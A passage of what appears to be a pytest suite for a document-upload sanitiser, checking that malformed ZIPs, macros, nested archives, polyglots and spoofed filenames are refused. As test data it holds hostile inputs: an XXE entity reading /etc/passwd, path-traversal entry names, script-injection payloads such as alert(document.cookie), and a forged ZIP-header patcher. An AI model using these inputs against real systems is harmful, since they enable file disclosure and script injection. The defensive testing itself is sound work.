    """Rewrite fields of one central-directory record, as a hostile ZIP writer would."""
    offsets = {"flags": 8, "file_size": 24, "header_offset": 42}
    formats = {"flags": "<H", "file_size": "<I", "header_offset": "<I"}
    patched = bytearray(data)
    position = patched.find(b"PK\x01\x02")
    while position >= 0:
        name_length = struct.unpack_from("<H", patched, position + 28)[0]
        if patched[position + 46 : position + 46 + name_length] == name:
            for field_name, value in fields.items():
                struct.pack_into(
                    formats[field_name], patched, position + offsets[field_name], value
                )
        position = patched.find(b"PK\x01\x02", position + 4)
    return bytes(patched)


def test_overlapping_entries_are_refused() -> None:
    data = make_docx([("word/media/other.bin", b"x" * 100)])
    refused(_patch_central_directory(data, b"word/media/other.bin", header_offset=0), "zip_bomb")


def test_a_lying_size_header_gives_a_validation_error() -> None:
    data = make_docx([("word/media/notes.bin", b"y" * 5000)])
    lying = _patch_central_directory(data, b"word/media/notes.bin", file_size=10)
    with quickly(), pytest.raises(ValidationError) as caught:
        sanitise_attachment(lying)
    assert caught.value.code in ("zip_bomb", "damaged")


def test_too_many_entries_are_refused() -> None:
    extra: list[tuple[str, bytes | str]] = [(f"word/media/p{i}.bin", b"") for i in range(2001)]
    refused(make_docx(extra), "too_many_entries")
    refused(make_docx(), "too_many_entries", max_zip_entries=5)


@pytest.mark.parametrize(
    "name",
    [
        "../evil.xml",
        "word/../../evil.xml",
        "/etc/cron.d/evil",
        "C:/Windows/evil.xml",
        "word\\..\\..\\evil.xml",
        "word/evil\x00.xml",  # zipfile would cut the name here; the bytes are patched below
        "word/document.xml",  # a duplicate of an existing part
        "WORD/DOCUMENT.XML",  # a duplicate as far as OPC (case-insensitive) is concerned
    ],
)
def test_unsafe_entry_names_are_refused(name: str) -> None:
    stand_in = name.replace("\x00", "_")
    data = make_docx([(stand_in, b"<x/>")]).replace(stand_in.encode(), name.encode())
    refused(data, "unsafe_archive_path")


@pytest.mark.parametrize(
    "entry",
    [
        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", "make_xlsx"),
        ("word/media/image9.bin", "zip"),  # a ZIP under an innocent name
        ("word/embeddings/oleObject1.bin", "ole"),
        ("word/media/archive.zip", "zip"),
    ],
)
def test_nested_archives_and_embedded_objects_are_refused(entry: tuple[str, str]) -> None:
    name, what = entry
    content = {
        "make_xlsx": make_xlsx(),
        "zip": _zip([("a.txt", "hello")]),
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
    }[what]
    refused(make_docx([(name, content)]), "nested_archive")


def test_macros_and_active_content_are_refused() -> None:
    refused(make_docx([("word/vbaProject.bin", b"\x00" * 20)]), "macros")
    refused(make_docx([("word/activeX/activeX1.xml", "<ax/>")]), "macros")
    macro_types = CONTENT_TYPES_DOCX.replace("document.main+xml", "document.macroEnabled.main+xml")
    entries = [("[Content_Types].xml", macro_types), *docx_entries()[1:]]
    refused(_zip(entries), "macros")
    refused(make_odt([("Basic/Standard/Module1.xml", "<script/>")]), "macros")


def test_encrypted_archives_are_refused() -> None:
    data = make_docx([("word/media/secret.bin", b"z" * 100)])
    refused(_patch_central_directory(data, b"word/media/secret.bin", flags=1), "encrypted")
    odt = odt_entries()
    odt[1] = (
        odt[1][0],
        str(odt[1][1]).replace(
            "</manifest:manifest>", "<manifest:encryption-data/></manifest:manifest>"
        ),
    )
    refused(_zip(odt, stored_first=True), "encrypted")


def test_dtd_in_a_document_part_is_refused() -> None:
    xxe = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    refused(make_docx([("word/footnotes.xml", xxe)]), "damaged")


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "unsupported_type"),
        (b"  \n<html><body>renamed to .pdf</body></html>", "unsupported_type"),
        (b"<html><body>hi</body></html>\n%PDF-1.4\n", "unsupported_type"),  # HTML, then PDF
        (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "unsupported_type",
        ),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(100), "unsupported_type"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "legacy_office"),
        (b"\x7fELF\x02\x01\x01" + bytes(100), "unsupported_type"),
        (_zip([("readme.txt", "a plain zip")]), "unsupported_type"),
        (_zip(odt_entries("application/vnd.oasis.opendocument.spreadsheet")), "unsupported_type"),
        (b"", "empty_file"),
    ],
)
def test_other_types_are_refused_whatever_their_name(data: bytes, code: str) -> None:
    with quickly(), pytest.raises(ValidationError) as caught:
        sanitise_attachment(data, original_name="evidence.pdf")
    assert caught.value.code == code


def test_a_zip_that_is_both_word_and_excel_is_refused() -> None:
    refused(make_docx([("xl/workbook.xml", "<workbook/>")]), "unsupported_type")


def test_polyglots_with_markup_near_the_start_are_refused() -> None:
    refused(make_pdf(prefix=b"%<html><script>alert(document.cookie)</script>"), "polyglot")
    refused(make_png(text="<html><script>alert(1)</script></html>"), "polyglot")


def test_markup_deep_inside_a_pdf_is_not_copied() -> None:
    data = make_pdf() + b"\n<html><script>alert(1)</script></html>\n" * 3
    result = sanitise_attachment(data)
    assert b"<script" not in result.clean


def test_oversize_is_refused_before_parsing() -> None:
    # Not even a real PDF: the size alone decides, before anything looks inside.
    refused(b"%PDF-" + bytes(20_000_000), "file_too_large")
    error = refused(make_png(), "file_too_large", max_bytes=100)
    assert error.params == {"limit": "0.0001"}


@pytest.mark.parametrize(
    "name",
    [
        "invoice\u202efdp.exe",
        "../../etc/passwd",
        "..\\..\\win.ini",
        "a.pdf\x00.html",
        "CON",
        "<script>alert(1)</script>.png",
        "x" * 300,
    ],
)
def test_the_safe_filename_never_contains_the_original_name(name: str) -> None:
    result = sanitise_attachment(make_png(), original_name=name)
    assert SAFE_NAME.fullmatch(result.safe_filename)
    assert result.safe_filename == f"evidence-{result.clean_sha256[:8]}.png"
    assert result.safe_filename.isascii()


def test_an_extension_that_disagrees_with_the_content_is_ignored() -> None:
    result = sanitise_attachment(make_png(), original_name="photo.jpeg")
    assert result.kind == "png" and result.safe_filename.endswith(".png")


# ---------------------------------------------------------------------------------------------
# Mutation fuzz: damaged files give a ValidationError or a result, never anything else
# ---------------------------------------------------------------------------------------------


SEEDS: dict[str, Callable[[], bytes]] = {"docx": make_docx, "pdf": make_pdf, "png": make_png}


@pytest.mark.parametrize("kind", sorted(SEEDS))
def test_flipped_bytes_never_escape_as_other_exceptions(kind: str) -> None:
    seed = SEEDS[kind]()
    rng = random.Random(f"palermo-{kind}")
    outcomes = {"accepted": 0, "refused": 0}
    slowest = 0.0
    for _ in range(200):
        mutated = bytearray(seed)
        for _ in range(rng.randint(1, 8)):
            mutated[rng.randrange(len(mutated))] = rng.randrange(256)
        start = time.perf_counter()
        try:
            result = sanitise_attachment(bytes(mutated))
        except ValidationError as error:
            assert error.code
            outcomes["refused"] += 1
        else:
            assert result.kind in ALLOWED
            outcomes["accepted"] += 1
        slowest = max(slowest, time.perf_counter() - start)
    assert slowest < 1.0
    assert sum(outcomes.values()) == 200
